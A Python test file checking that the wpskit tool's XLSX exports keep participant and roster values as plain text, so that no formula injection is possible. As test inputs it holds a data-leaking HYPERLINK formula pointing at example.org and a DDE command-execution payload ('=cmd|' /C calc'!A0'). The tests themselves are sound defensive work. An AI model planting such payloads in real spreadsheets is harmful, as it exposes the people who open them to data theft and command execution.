"""No XLSX wpskit writes holds a formula made of participant or roster text (issue #16)."""

from __future__ import annotations

import re
from pathlib import Path

import openpyxl
import pandas as pd

from tests.conftest import write_csv
from tests.test_plans import ROWS, responses
from wpskit.plans import gather_plans, plan_to_xlsx
from wpskit.report import write_report

ROOT = Path(__file__).resolve().parents[1]
FORMULA = '=HYPERLINK("http://example.org/?"&A1,"Click")'


def formula_cells(path: Path) -> list[str]:
    workbook = openpyxl.load_workbook(path)
    return [f"{sheet.title}!{cell.coordinate}" for sheet in workbook for row in sheet.iter_rows() for cell in row
            if cell.data_type == "f"]


def all_text(path: Path) -> set[str]:
    workbook = openpyxl.load_workbook(path)
    return {cell for sheet in workbook for row in sheet.iter_rows(values_only=True) for cell in row
            if isinstance(cell, str)}


def test_a_plan_cell_that_looks_like_a_formula_stays_text(tmp_path):
    rows = [{**ROWS[0], "objective": FORMULA, "partners": "=1+1", "indicator": "@SUM(A1:A9)"}]
    path = plan_to_xlsx(rows, tmp_path / "plan.xlsx")
    assert formula_cells(path) == []
    assert {FORMULA, "=1+1", "@SUM(A1:A9)"} <= all_text(path)


def test_gathered_plans_and_a_roster_group_that_looks_like_a_formula_stay_text(tmp_path):
    day3 = tmp_path / "homes" / "hn-01" / "modules" / "day3-roles"
    day3.mkdir(parents=True)
    (day3 / "d3-action-plan.responses.json").write_text(
        responses("d3-action-plan", {"d3-my-plan": [{**ROWS[0], "activity": FORMULA}]}), encoding="utf-8")
    roster = write_csv(tmp_path / "roster.csv", "participant_id,name,stakeholder_group,organisation\n"
                                                "hn-01,=2+2,=cmd|' /C calc'!A0,+Org\n")
    out = tmp_path / "plans.xlsx"
    gather_plans(out, folders=[tmp_path / "homes"], roster=roster)
    assert formula_cells(out) == []
    assert {FORMULA, "=2+2", "+Org"} <= all_text(out)


def test_the_report_workbook_holds_no_formula(tmp_path):
    ids = [f"p{k:02d}" for k in range(12)]
    scores = pd.DataFrame([(pid, form, f"q{k}", float((k + i + (form == "post")) % 2), 1.0, "a")
                           for i, pid in enumerate(ids) for form in ("pre", "post") for k in range(6)],
                          columns=["participant_id", "form", "item_id", "score", "max_score", "response"])
    roster = pd.DataFrame({"participant_id": ids, "stakeholder_group": [FORMULA] * 6 + ["=1+1"] * 6,
                           "gender": ["female"] * 12})
    write_report(scores, roster, tmp_path / "out")
    path = tmp_path / "out" / "report.xlsx"
    assert formula_cells(path) == []
    assert FORMULA in all_text(path)


def test_every_module_that_writes_a_workbook_passes_it_through_text_only():
    writers = [path for path in (ROOT / "wpskit").rglob("*.py")
               if re.search(r"\bWorkbook\(|ExcelWriter\(|\.to_excel\(", path.read_text(encoding="utf-8"))]
    assert writers, "no XLSX writer found: the scan is broken"
    for path in writers:
        assert "text_only(" in path.read_text(encoding="utf-8"), f"{path.name} writes XLSX without text_only"
